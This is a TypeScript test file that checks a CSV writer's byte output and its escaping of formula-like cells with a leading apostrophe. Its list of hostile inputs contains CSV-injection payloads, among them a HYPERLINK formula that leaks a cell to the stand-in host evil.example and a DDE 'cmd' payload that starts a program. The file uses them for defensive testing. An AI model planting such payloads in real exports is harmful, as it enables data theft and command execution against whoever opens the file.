/** What is written is read again as it was, and nothing in it is a formula to a spreadsheet. */
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { writeCsv } from "./write-csv.ts";

const hostile = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")", "=1\nand a second line", "-2+3+cmd|' /C calc'!A0"];
const harmless = ["plain", "a = b", "", " spaces ", "comma, here", 'a "quoted" word', "two\r\nlines", "'already", "émoji 🍎", "1e5"];

describe("writeCsv", () => {
  test("bytes: a mark, CRLF, quotes where they are needed, numbers and nothing as they are", async () => {
    const blob = writeCsv([["a", 'b "c"', "d,e"], [-1.5, null, "x\ny"]]);
    expect(blob.type).toBe("text/csv");
    expect(new Uint8Array(await blob.arrayBuffer()).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(await blob.text()).toBe('a,"b ""c""","d,e"\r\n-1.5,,"x\ny"\r\n');
  });

  test("a cell that would be a formula is text, whatever follows in it, and is read again behind its apostrophe", async () => {
    const { data } = Papa.parse<string[]>(await writeCsv(hostile.map((cell) => ["x", cell, "y"])).text(), { newline: "\r\n", skipEmptyLines: true });
    expect(data).toEqual(hostile.map((cell) => ["x", `'${cell}`, "y"]));
  });

  test("what is no formula comes back to the letter", async () => {
    const { data } = Papa.parse<string[]>(await writeCsv(harmless.map((cell) => ["x", cell])).text(), { newline: "\r\n", skipEmptyLines: true });
    expect(data).toEqual(harmless.map((cell) => ["x", cell]));
  });
});
